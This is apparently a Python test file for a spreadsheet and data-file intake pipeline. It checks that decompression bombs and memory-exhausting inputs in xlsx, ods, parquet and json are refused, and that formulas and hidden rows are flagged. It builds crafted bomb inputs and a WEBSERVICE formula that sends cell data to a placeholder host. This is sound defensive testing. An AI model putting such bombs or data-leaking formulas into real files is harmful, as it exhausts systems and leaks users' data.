"""Small files that would grow to fill the memory are refused before they are parsed."""

import io
import json
import struct
from pathlib import Path
from zipfile import ZipFile

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import xlsxwriter

from lib.deliveries import GOOD, ods, ods_row, source, zipped
from regiebeeld.pipeline.intake.limits import MEGABYTE, STANDARD, Limits, RefusedFile
from regiebeeld.pipeline.intake.reading import read_delivery

SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}'
    "</sheetData></worksheet>"
)
SMALL = Limits(unpacked_bytes=8 * MEGABYTE)


def _refusal(folder: Path, name: str, body: bytes | str, limits: Limits = STANDARD) -> RefusedFile:
    path = folder / name
    path.write_bytes(body.encode() if isinstance(body, str) else body)
    with pytest.raises(RefusedFile) as refusal:
        read_delivery(path, source(), limits=limits)
    return refusal.value


def _workbook(members: dict[str, str], *, sheet: str = "worksheets/sheet1.xml") -> bytes:
    """Make a workbook of our own writer, with other parts, and another name for its sheet."""
    body = io.BytesIO()
    with xlsxwriter.Workbook(body, {"in_memory": True}) as book:
        book.add_worksheet().write(0, 0, "nummer")
    with ZipFile(body) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    relations = "xl/_rels/workbook.xml.rels"
    parts[relations] = parts[relations].replace("worksheets/sheet1.xml", sheet)
    return zipped({**parts, **members})


def test_a_far_cell_in_a_part_that_is_not_called_a_sheet(tmp_path: Path) -> None:
    far = SHEET.format('<row r="1000000"><c r="IA1000000"><v>1</v></c></row>')
    body = _workbook({"xl/data1.xml": far}, sheet="data1.xml")
    assert _refusal(tmp_path, "a.xlsx", body).rule == "zip_bomb"


def test_a_sheet_in_two_bytes_a_letter(tmp_path: Path) -> None:
    far = SHEET.format('<row r="1"><c r="A1"><v>1</v></c></row>').encode("utf-16")
    body = _workbook({"xl/data1.xml": far}, sheet="data1.xml")
    assert _refusal(tmp_path, "a.xlsx", body).rule == "file_kind"


def test_a_shared_text_in_many_cells(tmp_path: Path) -> None:
    rows = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(1, 20_001))
    text = f"<sst><si><t>{'x' * 1000}</t></si></sst>"
    parts = {"xl/worksheets/sheet1.xml": SHEET.format(rows), "xl/sharedStrings.xml": text}
    assert _refusal(tmp_path, "a.xlsx", _workbook(parts), SMALL).rule == "long_text"


def test_a_long_text_that_few_cells_name_is_read(tmp_path: Path) -> None:
    rows = "".join(f'<row r="{i}"><c r="A{i}"><v>0</v></c></row>' for i in range(2, 20_001))
    rows = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>' + rows
    text = f"<sst><si><t>{'x' * 150}</t></si><si><t>{'y' * 1000}</t></si></sst>"
    parts = {"xl/worksheets/sheet1.xml": SHEET.format(rows), "xl/sharedStrings.xml": text}
    path = tmp_path / "a.xlsx"
    path.write_bytes(_workbook(parts))
    assert read_delivery(path, source(), limits=SMALL).table.num_rows == 19_999


@pytest.mark.parametrize(
    ("rule", "rows"),
    [
        pytest.param(
            "zip_bomb",
            '<table:table-row table:number-rows-repeated="200">'
            f'<table:table-cell table:number-columns-repeated="9" office:value-type="string">'
            f"<text:p>{'x' * 10_000}</text:p></table:table-cell></table:table-row>",
            id="a long text repeated",
        ),
        pytest.param(
            "zip_bomb",
            '<table:table-row\ttable:number-rows-repeated="90000000">'
            '<table:table-cell office:value-type="float" office:value="1"/></table:table-row>',
            id="a tab in a tag",
        ),
        pytest.param(
            "file_kind",
            '<table:table-row table:style-name="a>b" table:number-rows-repeated="90000000">'
            '<table:table-cell office:value-type="float" office:value="1"/></table:table-row>',
            id="a sign that hides the end of a tag",
        ),
        pytest.param(
            "file_kind",
            "<table:table-row table:number-rows-repeated='90000000'>"
            '<table:table-cell office:value-type="float" office:value="1"/></table:table-row>',
            id="single quotes",
        ),
        pytest.param(
            "file_kind",
            '<table:table-row table:number-rows-repeated="&#57;0000000">'
            '<table:table-cell office:value-type="float" office:value="1"/></table:table-row>',
            id="a digit in code",
        ),
        pytest.param("zip_bomb", ods_row('<text:s text:c="999"/>' * 9000), id="spaces"),
    ],
)
def test_an_ods_that_repeats(tmp_path: Path, rule: str, rows: str) -> None:
    body = ods(ods_row(*GOOD) + rows)
    assert _refusal(tmp_path, "a.ods", body, SMALL).rule == rule


def test_a_tab_after_the_word_table(tmp_path: Path) -> None:
    """The split on tables must see every way to end the word."""
    body = ods(
        ods_row(*GOOD) + '</table:table><table:table\ttable:name="b">'
        '<table:table-row table:number-rows-repeated="90000000">'
        '<table:table-cell office:value-type="float" office:value="1"/></table:table-row>'
    )
    assert _refusal(tmp_path, "a.ods", body).rule == "zip_bomb"


def test_repeated_empty_cells_between_values_are_read(tmp_path: Path) -> None:
    path = tmp_path / "a.ods"
    gap = '<table:table-cell table:number-columns-repeated="3"/>'
    value = '<table:table-cell office:value-type="string"><text:p>c</text:p></table:table-cell>'
    row = f"<table:table-row>{gap}{value}</table:table-row>"
    path.write_bytes(ods(ods_row("a", "b", "c", "d") + row))
    assert read_delivery(path, source(), limits=SMALL).table["d"].to_pylist() == ["c"]


def test_a_zip_with_many_entries_is_not_listed(tmp_path: Path) -> None:
    entry = struct.pack("<4s4B4HL2L5H2L", b"PK\1\2", *(20, 0, 20, 0), *(0,) * 7, 1, *(0,) * 6)
    body = b"PK\3\4" + bytes(26) + (entry + b"a") * 600
    found = _refusal(tmp_path, "a.xlsx", body)
    assert (found.rule, "600 delen" in found.words) == ("zip_bomb", True)


def _parquet(kind: pa.DataType, value: object, times: int) -> bytes:
    body = io.BytesIO()
    pq.write_table(pa.table({"nummer": pa.array([value] * times, kind)}), body)
    return body.getvalue()


@pytest.mark.parametrize("kind", [pa.large_string(), pa.string_view(), pa.string()])
def test_a_parquet_of_every_kind_of_text(tmp_path: Path, kind: pa.DataType) -> None:
    assert _refusal(tmp_path, "a.parquet", _parquet(kind, "x" * 9000, 2000), SMALL).rule == (
        "zip_bomb"
    )
    path = tmp_path / "b.parquet"
    path.write_bytes(_parquet(kind, "Z-1", 2))
    assert read_delivery(path, source()).table.to_pylist() == [{"nummer": "Z-1"}] * 2


@pytest.mark.parametrize(
    ("kind", "value"), [(pa.binary(3), b"abc"), (pa.duration("s"), 1), (pa.binary_view(), b"a")]
)
def test_a_parquet_type_that_is_not_known(tmp_path: Path, kind: pa.DataType, value: object) -> None:
    found = _refusal(tmp_path, "a.parquet", _parquet(kind, value, 2))
    assert (found.rule, found.column) == ("column_type", "kolom 1")


@pytest.mark.parametrize("piece", ["{},", '{"a":1},', "1,", "[],", '{"a":{}},'])
def test_json_of_many_small_values_is_refused_before_it_is_parsed(
    tmp_path: Path, piece: str
) -> None:
    limits = Limits(json_memory=MEGABYTE)
    body = "[" + piece * 20_000 + "{}]"
    assert _refusal(tmp_path, "a.json", body, limits).rule == "too_many_rows"


def test_json_of_the_usual_kind_is_far_from_that_limit() -> None:
    body = json.dumps([GOOD] * 1000)
    weight = 66 * body.count(",") + 248 * body.count("{")
    assert weight * STANDARD.json_bytes / len(body) < STANDARD.json_memory / 2


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("a.json", '[{"soort": "A20", "Jan Vogelzang 111222333": ["x"]}]'),
        ("a.json", '[{"soort": {"Vogelzang": "111222333"}}]'),
        (
            "a.geojson",
            '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties":'
            ' {"Vogelzang": {}}, "geometry": null}]}',
        ),
        ("a.vogelzang", "x"),
        ("a.12abc3", "x"),
    ],
)
def test_a_refusal_holds_no_text_of_the_file(tmp_path: Path, name: str, body: str) -> None:
    found = _refusal(tmp_path, name, body)
    told = f"{found.words} {found.column}".lower()
    assert [word for word in ("vogel", "111222333", "12abc3") if word in told] == []


def test_a_refused_parquet_column_is_told_by_its_place(tmp_path: Path) -> None:
    body = io.BytesIO()
    pq.write_table(pa.table({"soort": ["A20"], "Vogelzang": [[1]]}), body)
    found = _refusal(tmp_path, "a.parquet", body.getvalue())
    assert (found.rule, found.column) == ("nested", "kolom 2")
    assert "Vogelzang" not in found.words


def _notes(folder: Path, name: str, body: bytes) -> dict[str, str]:
    path = folder / name
    path.write_bytes(body)
    return {note.rule: note.words for note in read_delivery(path, source()).facts.notes}


def test_formulas_hidden_rows_and_comments_are_told_with_their_place(tmp_path: Path) -> None:
    body = io.BytesIO()
    with xlsxwriter.Workbook(body, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Blad1")
        for at, row in enumerate((list(GOOD), list(GOOD.values()), list(GOOD.values()))):
            sheet.write_row(at, 0, row)
        sheet.write_formula(1, 8, '=WEBSERVICE("http://voorbeeld.invalid/"&A2)', None, 7)
        sheet.set_row(2, None, None, {"hidden": True})
        sheet.set_column(3, 3, None, None, {"hidden": True})
        sheet.write_comment(1, 0, "x")
        book.add_worksheet("Blad2").hide()
    notes = _notes(tmp_path, "a.xlsx", body.getvalue())
    assert "1 cel bevat een formule (I2)" in notes["formula"]
    assert set(notes) == {"formula", "hidden", "comments", "other_sheets"}
    assert "waarvan 1 verborgen" in notes["other_sheets"]


def test_a_workbook_with_values_only_has_no_notes(tmp_path: Path) -> None:
    body = io.BytesIO()
    with xlsxwriter.Workbook(body, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Blad1")
        sheet.write_row(0, 0, list(GOOD))
        sheet.write_row(1, 0, list(GOOD.values()))
    assert _notes(tmp_path, "a.xlsx", body.getvalue()) == {}


def test_a_formula_in_an_ods_is_told_with_its_cell(tmp_path: Path) -> None:
    formula = (
        '<table:table-cell table:number-columns-repeated="2"/>'
        '<table:table-cell table:formula="of:=[.A1]" office:value-type="float" office:value="7"/>'
    )
    rows = (
        ods_row(*GOOD) + f'<table:table-row table:visibility="collapse">{formula}</table:table-row>'
    )
    notes = _notes(tmp_path, "a.ods", ods(rows))
    assert "(C2)" in notes["formula"]
    assert "rijen (1)" in notes["hidden"]
